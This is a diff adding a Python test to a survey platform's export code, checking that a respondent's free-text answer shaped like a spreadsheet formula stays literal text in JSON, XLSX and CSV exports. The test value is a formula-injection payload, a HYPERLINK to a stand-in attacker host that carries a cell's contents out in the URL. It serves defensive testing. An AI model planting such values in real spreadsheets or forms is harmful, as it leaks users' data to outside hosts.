@@ -538,3 +538,18 @@ def test_the_pilot_questionnaire_exports_whole(make, logged_in, tmp_path):
         answered = rows[(rows["community"] == community.name) & rows["overall"].isin([1, 2, 3, 4, 5])]["overall"]
         assert mine["satisfaction_rate"] == pytest.approx((answered >= 3).mean())
         assert table[community.name]["overall 满意率"] == pytest.approx(mine["satisfaction_rate"])
+
+
+def test_words_that_look_like_a_formula_stay_words(world, evaluator):
+    campaign, communities, _, _ = world
+    words = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
+    store_response(NewResponse(campaign_id=campaign.id, community_id=communities["B"].id, channel=Channel.QR,
+                               submission_id=uuid.uuid4().hex, submitted_at=START,
+                               answers=[("sat", ("5", None, None)), ("advice", ("", None, words))]))
+    base = f"/api/v1/campaigns/{campaign.id}/responses"
+    assert get_json(evaluator, base)["rows"][-1]["advice"] == words  # the JSON holds the words as written
+    sheet = openpyxl.load_workbook(io.BytesIO(evaluator.get(f"{base}.xlsx").data))["数据"]
+    cell = sheet.cell(row=sheet.max_row, column=len(FIXED + ITEMS))
+    assert (cell.value, cell.data_type) == (words, "s")
+    frame = pd.read_csv(io.BytesIO(evaluator.get(f"{base}.csv").data), encoding="utf-8-sig")
+    assert frame["advice"].iloc[-1] == "'" + words
